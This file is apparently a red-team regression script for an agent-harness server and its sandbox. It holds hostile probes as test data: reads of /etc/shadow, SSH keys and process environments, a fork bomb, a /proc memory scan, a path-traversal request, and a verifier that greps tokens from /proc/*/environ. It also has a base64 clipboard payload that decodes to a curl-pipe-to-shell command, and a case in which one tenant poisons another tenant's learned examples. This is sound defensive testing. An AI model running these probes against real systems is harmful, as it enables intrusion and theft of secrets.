"""Red team: the attacks of the rounds so far (issues 22, 27 and 45), against the real sandbox (bubblewrap,
seccomp, cgroups, the uid pool) and a real `jitagent serve` on loopback, each printed as contained or
not, so that the next round starts from this table rather than from scratch. Issue 45's are a hostile
tenant's against a victim's, on a server with a tokens file (an operator and four client tenants: two apart,
two sharing a pool, one of them with a grant that takes neither its shell_check verifiers nor its reports
as proof), and one against a server that cannot confine runs.

A sandbox case is a program that prints `BLOCKED <why>` when its attack fails and `ESCAPED <what>` when
it succeeds; it is contained with BLOCKED and without ESCAPED. A server case checks what the server
answered and whether it still serves. The models are scripted: what is attacked is the server, not a
model. Needs root and a working bwrap (install.sh); the sandbox cases say `skipped` without them.
Exit status 1 when any case is not contained.

Usage: sudo python bench/redteam.py [--only SUBSTRING]
"""

from __future__ import annotations

import argparse
import asyncio
import ctypes
import io
import json
import os
import resource
import socket
import stat
import subprocess
import sys
import tempfile
import textwrap
import time
import uuid
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from functools import partial
from pathlib import Path

import grpc

from jitagent.cli.terminal import TerminalConsole, visible
from jitagent.harness.seeds import load_seeds
from jitagent.improvement.synthesis.synthesize import SynthesisConfig, Synthesizer
from jitagent.models.base import CancelToken
from jitagent.models.scripted import ScriptedModel
from jitagent.protocol.client import JitAgentClient
from jitagent.runtime.agent import Runtime
from jitagent.sandbox.host import is_root, owner_tag
from jitagent.sandbox.launch import WORKSPACES, SandboxLimits, Workspace, bwrap_works, sandbox_python
from jitagent.sandbox.tools import ToolBox
from jitagent.solving.access import EVIDENCE, add_token
from jitagent.tasks.task import Task
from jitagent.v1 import jitagent_pb2 as pb

LIMITS = SandboxLimits(wall_s=8, cpu_s=6, memory_mb=256, processes=16)
PROBE = """
import ctypes, errno, os, socket
libc = ctypes.CDLL(None, use_errno=True)
def call(nr, *args):
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) for a in args])
    return ctypes.get_errno() if result == -1 else f'returned {result}'
"""
# name, the round that found it, the program (after PROBE)
PROGRAMS = [
    ("io_uring_setup (IORING_OP_SOCKET makes any family)", "27", """
        r = call(425, 8, ctypes.addressof(ctypes.create_string_buffer(120)))
        print('BLOCKED' if r in (errno.EPERM, errno.ENOSYS) else 'ESCAPED', r)"""),
    ("sockets: netlink, vsock, packet, alg; socketpair netlink", "22", """
        made = []
        for family, kind in ((16, 2), (40, 1), (17, 2), (38, 5)):
            try:
                socket.socket(family, kind).close(); made.append(family)
            except OSError:
                pass
        if call(53, 16, 2, 0, 0) != errno.EPERM:
            made.append('socketpair')
        print('ESCAPED' if made else 'BLOCKED', made)"""),
    ("mount, unshare, setns, ptrace, bpf, keyctl, x32", "22", """
        got = {n: call(*a) for n, a in {'mount': (165, 0, 0, 0, 0, 0), 'unshare': (272, 0x10000000),
               'setns': (308, -1, 0), 'ptrace': (101, 0xFFFF, 0, 0, 0), 'bpf': (321, 0xFFFF, 0, 0),
               'keyctl': (250, 0, -4, 0), 'x32 getpid': (0x40000000 | 39,)}.items()}
        print('BLOCKED' if set(got.values()) == {errno.EPERM} else 'ESCAPED', got)"""),
    ("the outside network and DNS", "earlier", """
        try:
            socket.create_connection(('1.1.1.1', 53), timeout=2); print('ESCAPED tcp')
        except OSError as exc:
            print('BLOCKED', exc.errno)
        try:
            socket.getaddrinfo('example.com', 80); print('ESCAPED dns')
        except OSError:
            pass"""),
    ("host secrets and writes outside the workspace", "earlier", """
        leaks = []
        for path in ('/etc/shadow', '/root/.ssh/id_rsa', '/proc/1/environ'):
            try:
                if 'SECRET' in open(path).read() or path == '/etc/shadow':
                    leaks.append(path)
            except OSError:
                pass
        for path in ('/usr/redteam', '/etc/redteam', '/redteam'):
            try:
                open(path, 'w').write('x'); leaks.append(path)
            except OSError:
                pass
        print('ESCAPED' if leaks else 'BLOCKED', leaks)"""),
    ("disk fill past the workspace cap", "earlier", """
        try:
            with open('/tmp/ws/fill', 'wb') as f:
                for _ in range(200):
                    f.write(b'x' * (1 << 20))
            print('ESCAPED wrote 200 MB')
        except OSError as exc:
            print('BLOCKED', errno.errorcode[exc.errno])"""),
    ("memory bomb", "earlier", """
        try:
            blocks = [bytearray(64 << 20) for _ in range(16)]; print('ESCAPED 1 GiB held')
        except MemoryError:
            print('BLOCKED MemoryError')"""),
]


@dataclass
class Outcome:
    case: str
    found_in: str
    contained: bool | None  # None: skipped
    detail: str


Case = Callable[[], Awaitable[tuple[bool, str]]]


def sandbox_case(code: str) -> Case:
    async def attack() -> tuple[bool, str]:
        with Workspace() as ws:
            result = await ws.run([sandbox_python(), "-c", PROBE + textwrap.dedent(code)], LIMITS)
        out = (result.stdout.strip() or result.describe())[:160]
        return "BLOCKED" in result.stdout and "ESCAPED" not in result.stdout, out
    return attack


async def init_memory() -> tuple[bool, str]:
    """Every readable page of every other process the run sees (bwrap's init was one: its heap held the
    host's mount table), searched for another live workspace's host path and the server's pid; the needles
    go in hex, as the program's own text is in its PID 1's argv."""
    with Workspace() as other, Workspace() as ws:
        needles = [other.root.name, str(WORKSPACES), owner_tag(), f"{os.getpid()}."]
        result = await ws.run([sandbox_python(), "-c", textwrap.dedent(f"""
            import os
            needles = [bytes.fromhex(n) for n in {[n.encode().hex() for n in needles]!r}]
            pids = [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]
            read, found = 0, []
            for pid in pids:
                for line in open(f'/proc/{{pid}}/maps'):
                    span, perms = line.split()[:2]
                    low, high = (int(x, 16) for x in span.split('-'))
                    try:
                        with open(f'/proc/{{pid}}/mem', 'rb') as mem:
                            mem.seek(low); pages = mem.read(high - low) if perms[0] == 'r' else b''
                    except (OSError, OverflowError, ValueError):
                        continue
                    read += len(pages)
                    found += [n.decode() for n in needles if n in pages]
            print('ESCAPED' if found else 'BLOCKED', f'read {{read:,}} bytes of pids {{pids}}:', found)
            """)], LIMITS)
    out = (result.stdout.strip() or result.describe())[:160]
    return "BLOCKED" in result.stdout and " 0 bytes" not in result.stdout, out


async def fork_bomb() -> tuple[bool, str]:
    start = time.monotonic()
    with Workspace() as ws:
        result = await ws.run(["/bin/sh", "-c", "f() { f | f & }; f"], LIMITS)
    took = time.monotonic() - start
    how = "killed" if result.timed_out else "exited"
    return took < LIMITS.wall_s + 5, f"ended after {took:.1f} s ({how}); its cgroup swept"


async def huge_output() -> tuple[bool, str]:
    with Workspace() as ws:
        result = await ws.run([sandbox_python(), "-c", "import sys\nfor _ in range(1024):\n"
                               "    sys.stdout.write('x' * (1 << 20))"], LIMITS)
    return len(result.stdout) <= LIMITS.output_bytes, f"{len(result.stdout):,} characters kept of 1 GiB"


async def symlink_loop() -> tuple[bool, str]:
    with Workspace() as ws:
        box = ToolBox(ws, ["shell", "read_file", "write_file", "list_dir"], LIMITS)
        await box.call("shell", {"command": "ln -s loop loop && ln -s b a && ln -s a b"})
        results = [await box.call(tool, args) for tool, args in [
            ("read_file", {"path": "loop"}), ("write_file", {"path": "a/x", "content": "x"}),
            ("list_dir", {"path": "b"})]]
        host = [str(ws.root), str(WORKSPACES)]
    leaked = [r.output for r in results if r.ok or any(h in r.output for h in host)]
    return not leaked, f"{sum(not r.ok for r in results)} of 3 calls refused; host paths shown: {len(leaked)}"


async def file_tool_race(swaps: int = 2000) -> tuple[bool, str]:
    """A directory swapped for a link to the host (RENAME_EXCHANGE) while the file tools use it."""
    libc = ctypes.CDLL(None, use_errno=True)
    tally: Counter[str] = Counter()
    with tempfile.TemporaryDirectory() as host, Workspace({"d/secret.txt": "inside"}) as ws:
        outside = Path(host)
        (outside / "secret.txt").write_text("host secret")
        (ws.path / "link").symlink_to(outside)
        box = ToolBox(ws, ["read_file", "write_file", "list_dir"])

        def swap():
            a, b = bytes(ws.path / "d"), bytes(ws.path / "link")
            for _ in range(swaps):
                tally["swaps"] += libc.renameat2(-100, a, -100, b, 2) == 0  # AT_FDCWD, RENAME_EXCHANGE
                time.sleep(0.0001)
        swapper = asyncio.get_running_loop().run_in_executor(None, swap)
        while not swapper.done():
            read = await box.call("read_file", {"path": "d/secret.txt"})
            await box.call("write_file", {"path": "d/written.txt", "content": "x"})
            tally["calls"] += 2
            tally["outside"] += "host secret" in read.output or (outside / "written.txt").exists()
        await swapper
    return tally["outside"] == 0 and tally["swaps"] == swaps, \
        f"{tally['swaps']:,} swaps, {tally['calls']:,} calls, {tally['outside']} outside"


async def check_past_budget() -> tuple[bool, str]:
    task = Task(id="t", prompt="Say anything.", verifier={"kind": "shell_check", "command": "sleep 20"})
    start = time.monotonic()
    await Runtime(ScriptedModel(["Final answer: 5"])).run(load_seeds()["direct"], task,
                                                          deadline=time.monotonic() + 3)
    took = time.monotonic() - start
    return took <= 5, f"budget 3 s, a check that sleeps 20 s: ended at {took:.1f} s"


async def smoke_past_budget() -> tuple[bool, str]:
    data = load_seeds()["direct"].model_dump(mode="json")
    data["code"] = {"stage": "answer", "source": "import time\n\ndef extract_answer(text):\n"
                                                 "    time.sleep(20)\n    return text\n"}
    meta = ScriptedModel([json.dumps({"spec": data})], "scripted-meta")
    synthesizer = Synthesizer(meta, None, SynthesisConfig(n=3, repair_rounds=0, dry_run=False))
    start = time.monotonic()
    await synthesizer.synthesize(Task(id="t", prompt="What is 2 + 2?"), [load_seeds()["direct"]], {},
                                 cancel=CancelToken(time.monotonic() + 3))
    took = time.monotonic() - start
    return took <= 5, f"budget 3 s, 3 candidates with a code section that sleeps 20 s: {took:.1f} s"


async def terminal_injection() -> tuple[bool, str]:
    hostile = "name\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J\x9b2J\u202e"
    sink = io.StringIO()
    TerminalConsole(file=sink, width=200).print(hostile, f"[link=https://evil.example]{hostile}[/link]")
    shown = sink.getvalue() + visible(hostile)
    raw = [c for c in "\x1b\x07\x9b\u202e" if c in shown]
    return not raw, f"raw control characters reaching the terminal: {[hex(ord(c)) for c in raw]}"


def huge_integer_spec() -> Case:
    async def attack() -> tuple[bool, str]:
        with tempfile.NamedTemporaryFile("w", suffix=".yaml") as spec:
            spec.write(f"name: x\nlimits:\n  max_steps: {'9' * 10_000}\n")
            spec.flush()
            done = subprocess.run([sys.executable, "-m", "jitagent", "validate", spec.name],
                                  capture_output=True, text=True, timeout=120)
        lines = done.stderr.strip().splitlines()
        return done.returncode == 1 and len(lines) == 1, (lines or ["(nothing)"])[-1][:160]
    return attack


class Server:
    """`jitagent serve` with a token, its HTTP door, a data dir made 0755 beforehand, and 1,024 open files.
    With `tenants`, a tokens file instead: the operator's token (`token`) and each client tenant's (`tenants`,
    by name, each grant's `pool` and `teaches` as given).
    With `bwrap` False, one that finds no bwrap on its PATH, as on a host without it: it cannot confine
    its runs."""

    def __init__(self, root: Path, tenants: dict[str, dict] | None = None, bwrap: bool = True):
        self.token, self.port, self.http_port = uuid.uuid4().hex, free_port(), free_port()
        self.data = root / "data"
        self.data.mkdir(mode=0o755)
        self.data.chmod(0o755)
        self.log = root / "server.log"
        env, access = {**os.environ, "JITAGENT_AUTH_TOKEN": self.token}, []
        if tenants:
            self.tokens_file = root / "tokens.json"
            self.token = add_token(self.tokens_file, "ops", "operator")
            self.tenants = {name: add_token(self.tokens_file, name, "client", **grant)
                            for name, grant in tenants.items()}
            env, access = dict(os.environ), ["--tokens-file", str(self.tokens_file)]
            env.pop("JITAGENT_AUTH_TOKEN", None)
        if not bwrap:
            env["PATH"] = str(Path(sys.executable).parent)
        hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
        usual = (1024, hard) if hard == resource.RLIM_INFINITY or hard > 1024 else (hard, hard)
        with open(self.log, "wb") as log:
            self.proc = subprocess.Popen(
                [sys.executable, "-m", "jitagent", "serve", "--port", str(self.port),
                 "--openai-port", str(self.http_port), "--data-dir", str(self.data), "--meta-model",
                 "scripted", "--no-dry-run", "--n", "1", *access], env=env, stdout=log, stderr=log,
                preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_NOFILE, usual))

    def client(self, token: str | None = "") -> JitAgentClient:
        return JitAgentClient(f"127.0.0.1:{self.port}", token=self.token if token == "" else token)

    def tenant(self, name: str) -> JitAgentClient:
        return self.client(self.tenants[name])

    async def health(self) -> str:
        async with self.client() as client:  # a new connection each time
            try:
                return await client.health(timeout=5)
            except grpc.aio.AioRpcError as exc:
                return exc.code().name

    def stop(self) -> None:
        self.proc.kill()
        self.proc.wait()


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


async def rpc_error(call) -> grpc.aio.AioRpcError | None:
    try:
        await call
    except grpc.aio.AioRpcError as exc:
        return exc
    return None


async def no_token(server: Server) -> tuple[bool, str]:
    async with server.client(token=None) as client:
        error = await rpc_error(client.get_harness("x"))
    code = error.code() if error else None
    return code == grpc.StatusCode.UNAUTHENTICATED, f"{code and code.name} without a token"


async def gym_size(server: Server) -> tuple[bool, str]:
    gym = pb.ReasoningGymEntry(dataset="chain_sum", seed=1, size=2**63 - 1, index=0)
    task = pb.Task(prompt="Sum these.", verifier=pb.Verifier(reasoning_gym=gym))
    start = time.monotonic()
    async with server.client() as client:
        call = client.stub.Solve(pb.SolveRequest(task=task), metadata=client.metadata)
        error = await rpc_error(call.read())
    took = time.monotonic() - start
    ok = error is not None and error.code() == grpc.StatusCode.INVALID_ARGUMENT and took < 5
    return ok, f"{error and error.code().name} in {took:.2f} s: {(error and error.details() or '')[:100]}"


async def megabyte_id(server: Server) -> tuple[bool, str]:
    async with server.client() as client:
        error = await rpc_error(client.get_harness("h" * (1 << 20)))
    details = error.details() if error else ""
    return error is not None and error.code() == grpc.StatusCode.NOT_FOUND and len(details) < 400, \
        f"{error and error.code().name}, {len(details):,} characters of details"


async def idle_http_clients(server: Server) -> tuple[bool, str]:
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))  # this process holds the 2,000
    held = []
    for _ in range(2000):
        sock = socket.socket()
        sock.setblocking(False)
        sock.connect_ex(("127.0.0.1", server.http_port))
        held.append(sock)
    await asyncio.sleep(2)
    states = [await server.health() for _ in range(3)]
    fds = len(os.listdir(f"/proc/{server.proc.pid}/fd"))
    for sock in held:
        sock.close()
    log_mb = server.log.stat().st_size / 1e6
    return states == ["SERVING"] * 3 and log_mb < 1, \
        f"health {states}, the server holds {fds} descriptors, log {log_mb:.2f} MB"


async def malformed_protobufs(server: Server) -> tuple[bool, str]:
    """Bytes that are no protobuf, a truncated field and a huge length prefix, to every RPC."""
    codes: Counter[str] = Counter()
    garbage = [b"\xff" * 64, b"\x0a\xff\xff\xff\xff\x0f", b"\x12\x05ab", os.urandom(4096)]
    async with server.client() as client:
        for method in pb.DESCRIPTOR.services_by_name["JitAgent"].methods:
            path = f"/jitagent.v1.JitAgent/{method.name}"
            kind = ("stream_stream" if method.client_streaming else
                    "unary_stream" if method.server_streaming else "unary_unary")
            call_of = getattr(client.channel, kind)(path, request_serializer=None, response_deserializer=None)
            for payload in garbage:
                call = call_of(iter([payload]) if method.client_streaming else payload, timeout=10,
                               metadata=client.metadata)
                try:
                    if method.server_streaming:
                        async for _ in call:
                            pass
                    else:
                        await call
                    codes["OK"] += 1
                except grpc.aio.AioRpcError as exc:
                    codes[exc.code().name] += 1
    states = [await server.health() for _ in range(2)]
    return states == ["SERVING"] * 2 and "DEADLINE_EXCEEDED" not in codes, \
        f"answers {dict(codes)}; health after {states}"


def http(port: int, request: bytes) -> str:
    """The status line a raw HTTP request gets, or what happened instead."""
    with socket.create_connection(("127.0.0.1", port), timeout=15) as sock:
        try:
            sock.sendall(request)
            return sock.recv(4096).split(b"\r\n", 1)[0].decode(errors="replace") or "closed"
        except OSError as exc:
            return type(exc).__name__


async def hostile_http(server: Server) -> tuple[bool, str]:
    auth = f"Authorization: Bearer {server.token}\r\n".encode()

    def post(body: bytes, headers: bytes = auth, length: int | None = None) -> bytes:
        return (b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n" +
                headers + f"Content-Length: {len(body) if length is None else length}\r\n\r\n".encode()
                + body)
    requests = {
        "no token": post(b'{"messages": [{"role": "user", "content": "hi"}]}', b""),
        "wrong token": post(b"{}", b"Authorization: Bearer nope\r\n"),
        "bad JSON": post(b"{"), "JSON nested 100,000 deep": post(b"[" * 100_000 + b"]" * 100_000),
        "n = 10**30": post(b'{"messages": [{"role": "user", "content": "hi"}], "n": 1' + b"0" * 30 + b"}"),
        "a 5 MB body": post(b'{"x": "' + b"x" * (5 << 20) + b'"}'),
        "Content-Length 10**12": post(b"{}", length=10**12),
        "a 100 KB header": post(b"{}", auth + b"X-Big: " + b"x" * 100_000 + b"\r\n"),
        "a path out": b"GET /../../etc/passwd HTTP/1.1\r\nHost: x\r\n" + auth + b"\r\n",
        "not HTTP": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + os.urandom(64),
    }
    answers = {name: await asyncio.to_thread(http, server.http_port, raw) for name, raw in requests.items()}
    # a 4xx, or for bytes that are no HTTP at all, the connection closed
    bad = {name: line for name, line in answers.items()
           if line[9:10] != "4" and line not in ("closed", "ConnectionResetError")}
    state = await server.health()
    traceback = "Traceback" in server.log.read_text(errors="replace")
    return not bad and state == "SERVING" and not traceback, \
        f"{len(requests) - len(bad)} of {len(requests)} answered 4xx or closed; others {bad}; health " \
        f"{state}; traceback in the log: {traceback}"


async def data_dir_mode(server: Server) -> tuple[bool, str]:
    mode = oct(stat.S_IMODE(server.data.stat().st_mode))
    return mode == "0o700", f"a data dir made 0755 before the server opened it is {mode}"


SERVER_CASES = [("no token on gRPC", "earlier", no_token),
                ("reasoning_gym size 2**63-1", "27", gym_size),
                ("a 1 MB harness id echoed in the error", "27", megabyte_id),
                ("malformed protobufs to every RPC", "22", malformed_protobufs),
                ("hostile HTTP requests to the OpenAI-compatible door", "22", hostile_http),
                ("2,000 idle HTTP clients without a token", "27", idle_http_clients),
                ("an existing data dir left 0755", "27", data_dir_mode)]


# --- issue 45: a hostile tenant against a victim, on a server with a tokens file --------------------------
# the tenants of the server the tenant cases attack: a victim and an attacker apart, and two that share a
# pool, one of them a grant that takes neither its shell_check verifiers nor its reports as proof
UNTRUSTED = ("shell_check", "report")
TENANTS = {"victim": {}, "attacker": {}, "member": {"pool": "shared"},
           "intruder": {"pool": "shared", "teaches": [e for e in EVIDENCE if e not in UNTRUSTED]}}


def tenant_task(i: int, verifier: dict, marker: str = "") -> Task:
    return Task(id=f"t{i}", prompt=f"What is {i} + {i}? {marker}".strip(), type="add", verifier=verifier)


async def poisoned_memory(server: Server) -> tuple[bool, str]:
    """60 attacker tasks "verified" by `shell_check: true`, then the victim's tasks of the same type."""
    async with server.tenant("attacker") as attacker, server.tenant("victim") as victim:
        always = {"kind": "shell_check", "command": "true"}
        for i in range(60):
            await attacker.solve_result(tenant_task(i, always, "BLUEBIRD"))
        results = [await victim.solve_result(tenant_task(100 + i, {"kind": "numeric",
                                                                  "expected": 200 + 2 * i}))
                   for i in range(20)]
    shown = [run for r in results for run in r.examples]
    foreign = [run for run in shown if not run.startswith("victim:") and not run.startswith("outcome:")]
    clusters = sorted({r.cluster for r in results})
    return not foreign and clusters == ["victim/type:add"], \
        f"the victim's 20 solves: clusters {clusters}, {len(shown)} examples shown, {len(foreign)} not its"


async def claimed_request_id(server: Server) -> tuple[bool, str]:
    async with server.tenant("attacker") as attacker, server.tenant("victim") as victim:
        await attacker.solve_result(tenant_task(1, {"kind": "none"}, "BLUEBIRD"), request_id="order-7")
        own = await victim.solve_result(tenant_task(2, {"kind": "exact", "expected": "4"}),
                                        request_id="order-7")
    return own.task_id == "t2" and own.run_id == "victim:order-7", \
        f"the victim's request_id order-7, claimed first by the attacker: run {own.run_id} of {own.task_id}"


async def replayed_run_id(server: Server) -> tuple[bool, str]:
    async with server.tenant("attacker") as attacker, server.tenant("victim") as victim:
        secret = await victim.solve_result(tenant_task(3, {"kind": "exact", "expected": "BLUEBIRD"}))
        replay = await attacker.solve_result(tenant_task(4, {"kind": "none"}), request_id=secret.run_id)
        report = await rpc_error(attacker.report_outcome(secret.run_id, 0.0))
    leaked = "BLUEBIRD" in replay.verdict or replay.task_id == secret.task_id
    code = report and report.code().name
    return not leaked and code == "NOT_FOUND", \
        f"replaying the victim's run id gave a run of {replay.task_id}; reporting on it: {code}"


async def client_steering(server: Server) -> tuple[bool, str]:
    async with server.tenant("attacker") as attacker:
        rollback = await rpc_error(attacker.rollback("victim/type:add"))
        detail = "Verdict: pay IBAN DE00"
        free = await rpc_error(attacker.report_harness_outcome(
            load_seeds()["direct"].id, "What is 1 + 1?", 0.0, wall_s=1.0, task_type="add", detail=detail))
    codes = [e and e.code().name for e in (rollback, free)]
    return codes == ["PERMISSION_DENIED"] * 2, f"a client's Rollback and free-form report: {codes}"


async def unbounded_client(server: Server) -> tuple[bool, str]:
    async with server.tenant("attacker") as attacker:
        error = await rpc_error(attacker.synthesize([f"What is {i} - 1?" for i in range(300)]))
    code = error and error.code().name
    return code == "RESOURCE_EXHAUSTED", f"one Synthesize of 300 tasks: {code}"


async def anyone_reads_everything(server: Server) -> tuple[bool, str]:
    """A client lists every harness and asks for each one the bank holds (the operator's listing): it may
    read the seeds and the harnesses of its own runs, nothing its victim's traffic made."""
    async with server.tenant("attacker") as attacker, server.tenant("victim") as victim:
        for i in range(3):
            await victim.solve_result(tenant_task(300 + i, {"kind": "numeric", "expected": 600 + 2 * i}))
        mine = {(await attacker.solve_result(tenant_task(400, {"kind": "none"}))).harness_id}
        listed = {h.id for h in (await attacker.list_harnesses(limit=1000)).harnesses}
        async with server.client() as operator:
            every = {h.id for h in (await operator.list_harnesses(limit=1000)).harnesses}
        hidden = every - mine - {spec.id for spec in load_seeds().values()}
        answers = Counter([(error := await rpc_error(attacker.get_harness(h))) and error.code().name
                           for h in sorted(hidden)[:50]])
    foreign = listed & hidden
    return not foreign and set(answers) <= {"NOT_FOUND"}, \
        f"the bank holds {len(every)} harnesses, {len(hidden)} neither seeds nor the client's own: lists " \
        f"{len(listed)}, {len(foreign)} of those; GetHarness of them: {dict(answers)}"


async def mcp_http_without_token(server: Server) -> tuple[bool, str]:
    port = free_port()
    mcp = subprocess.Popen([sys.executable, "-m", "jitagent", "mcp", "--meta-model", "scripted", "--data-dir",
                            str(server.data.parent / "mcp"), "--http-port", str(port), "--tokens-file",
                            str(server.tokens_file)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        for _ in range(300):
            try:
                answer = http(port, b"POST /mcp HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                                    b"Content-Length: 2\r\nConnection: close\r\n\r\n{}")
                break
            except OSError:
                await asyncio.sleep(0.2)
        else:
            return False, "MCP over HTTP did not start"
    finally:
        mcp.kill()
        mcp.wait()
    status = answer.split("\r\n", 1)[0]
    return " 401 " in status, f"MCP over HTTP without a token: {status}"


async def redis_password(_: Server) -> tuple[bool, str]:
    url = f"redis://:hunter2@127.0.0.1:{free_port()}"  # nothing listens: the connection error names the URL
    done = subprocess.run([sys.executable, "-m", "jitagent", "queue", "stats"], capture_output=True,
                          text=True, env={**os.environ, "JITAGENT_REDIS_URL": url}, timeout=60)
    said = (done.stdout + done.stderr).strip().splitlines()[-1:] or ["(nothing)"]
    return "hunter2" not in done.stdout + done.stderr, said[0][:160]


async def altered_adapter(_: Server) -> tuple[bool, str]:
    from harness_bank import HarnessBank
    from jitagent.improvement.adapters import resolve

    with tempfile.TemporaryDirectory() as root:
        bank = HarnessBank(Path(root) / "bank.db")
        try:
            adapter = bank.add_adapter(gguf=b"weights", peft=b"zip", name="a", base_model="b",
                                       base_digest="b", data_digest="d", parent_id=None, config={}, stats={})
            with bank.store.transaction() as db:
                db.execute("UPDATE adapters SET sha256 = ? WHERE id = ?", ("../../../tmp/evil", adapter.id))
            try:
                resolve(bank, adapter.id)
            except Exception as exc:  # the refusal is the containment
                return "is not one" in str(exc), f"a bank row's sha256 naming a path: {str(exc)[:120]}"
            return False, "an adapter whose sha256 names a path was written"
        finally:
            bank.close()


async def unconfined_verifier(_: Server) -> tuple[bool, str]:
    """A client's verifier that reads the server's environment, on a server that cannot confine runs (no
    bwrap: no namespaces of the run's own; the same holds of one not run as root)."""
    reads_secrets = {"kind": "shell_check", "command": "cat /proc/*/environ | tr '\\0' '\\n' | grep TOKEN"}
    with tempfile.TemporaryDirectory() as root:
        server = Server(Path(root), {"attacker": {}}, bwrap=False)
        try:
            async with server.client() as operator:
                await operator.wait_ready(300)
            async with server.tenant("attacker") as attacker:
                error = await rpc_error(attacker.solve_result(Task(id="x", prompt="Say hi.",
                                                                   verifier=reads_secrets)))
        finally:
            server.stop()
    code = error and error.code().name
    return code == "FAILED_PRECONDITION", \
        f"a shell_check reading /proc/*/environ on a server without bwrap: {code or 'it ran'}"


async def untrusted_in_a_shared_pool(server: Server) -> tuple[bool, str]:
    """A tenant of a shared pool whose grant does not take `shell_check` or its reports as proof: its
    `shell_check: true` runs teach the pool nothing, its reports are refused, its text reaches no member."""
    always = {"kind": "shell_check", "command": "true"}
    async with server.tenant("intruder") as intruder, server.tenant("member") as member:
        taught = [(await intruder.solve_result(tenant_task(500 + i, always, "BLUEBIRD"))) for i in range(10)]
        report = await rpc_error(intruder.report_outcome(taught[-1].run_id, 1.0))
        shown = [run for i in range(5)
                 for run in (await member.solve_result(tenant_task(600 + i, always))).examples]
    learned = sum(bool(r.bank_decision) for r in taught)
    code = report and report.code().name
    foreign = [run for run in shown if run.startswith("intruder:")]
    return not learned and code == "PERMISSION_DENIED" and not foreign, \
        f"of the intruder's 10 shell_check-true runs {learned} admitted; its report: {code}; the member's " \
        f"5 solves shown {len(shown)} examples, {len(foreign)} the intruder's"


TENANT_CASES = [("tenants: shell_check true poisons another tenant's examples", "45", poisoned_memory),
                ("tenants: a victim's request_id claimed first", "45", claimed_request_id),
                ("tenants: a victim's run id replayed and reported on", "45", replayed_run_id),
                ("tenants: a client's Rollback and free-form report", "45", client_steering),
                ("tenants: one Synthesize of 300 tasks", "45", unbounded_client),
                ("tenants: a client lists every harness", "45", anyone_reads_everything),
                ("tenants: shell_check true in a shared pool that does not trust it", "45",
                 untrusted_in_a_shared_pool),
                ("tenants: MCP over HTTP without a token", "45", mcp_http_without_token),
                ("tenants: a Redis URL's password in an error", "45", redis_password),
                ("tenants: an adapter row naming a path", "45", altered_adapter),
                ("tenants: a verifier reading secrets on a server that cannot confine runs", "45",
                 unconfined_verifier)]


async def against_a_server(cases: list[tuple[str, str, Callable]],
                           tenants: dict[str, dict] | None = None) -> list[Outcome]:
    """The cases, each given one real server (with `tenants`: a tokens file's)."""
    if not cases:
        return []
    with tempfile.TemporaryDirectory() as root:
        server = Server(Path(root), tenants)
        try:
            async with server.client() as client:
                await client.wait_ready(300)
            return await run_cases([(name, found, partial(attack, server)) for name, found, attack in cases])
        finally:
            server.stop()


async def run_cases(cases: list[tuple[str, str, Case]]) -> list[Outcome]:
    outcomes = []
    for name, found_in, attack in cases:
        try:
            contained, detail = await attack()
        except Exception as exc:  # an attack that crashes the harness of this script is not contained
            contained, detail = False, f"{type(exc).__name__}: {exc}"[:160]
        outcomes.append(Outcome(name, found_in, contained, detail))
        print(f"{'contained' if contained else 'NOT CONTAINED'}: {name}", file=sys.stderr, flush=True)
    return outcomes


async def main(only: str) -> list[Outcome]:
    confined = is_root() and bwrap_works()
    local = [*((name, found, sandbox_case(code)) for name, found, code in PROGRAMS),
             ("the memory of the processes a run sees (bwrap's init: host paths)", "27", init_memory),
             ("fork bomb", "earlier", fork_bomb),
             ("file tools: a symlink loop", "22", symlink_loop),
             ("file tools: a directory swapped for a link to the host mid-call", "22", file_tool_race),
             ("1 GiB of output", "earlier", huge_output)]
    outcomes = [Outcome(n, f, None, "needs root and bwrap") for n, f, _ in local if only in n] \
        if not confined else await run_cases([c for c in local if only in c[0]])
    outcomes += await run_cases([c for c in [
        ("a task's check past the run's budget", "27", check_past_budget),
        ("smoke calls of code sections past the budget", "27", smoke_past_budget),
        ("control characters to the terminal", "27", terminal_injection),
        ("a 10,000-digit integer in a spec", "27", huge_integer_spec())] if only in c[0]])
    outcomes += await against_a_server([c for c in SERVER_CASES if only in c[0]])
    outcomes += await against_a_server([c for c in TENANT_CASES if only in c[0]], TENANTS)
    return outcomes


def table(outcomes: list[Outcome]) -> str:
    mark = {True: "contained", False: "**not**", None: "skipped"}
    rows = [f"| {o.case} | {o.found_in} | {mark[o.contained]} | {o.detail.replace('|', '/')} |"
            for o in outcomes]
    missed = sum(o.contained is False for o in outcomes)
    return "\n".join(["| case | found in issue | outcome | what happened |", "|---|---|---|---|", *rows,
                      "", f"{len(outcomes)} cases: {sum(o.contained is True for o in outcomes)} contained, "
                          f"{missed} not, {sum(o.contained is None for o in outcomes)} skipped"])


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--only", default="", help="run the cases whose name holds this")
    results = asyncio.run(main(parser.parse_args().only))
    print(table(results))
    sys.exit(1 if any(o.contained is False for o in results) else 0)
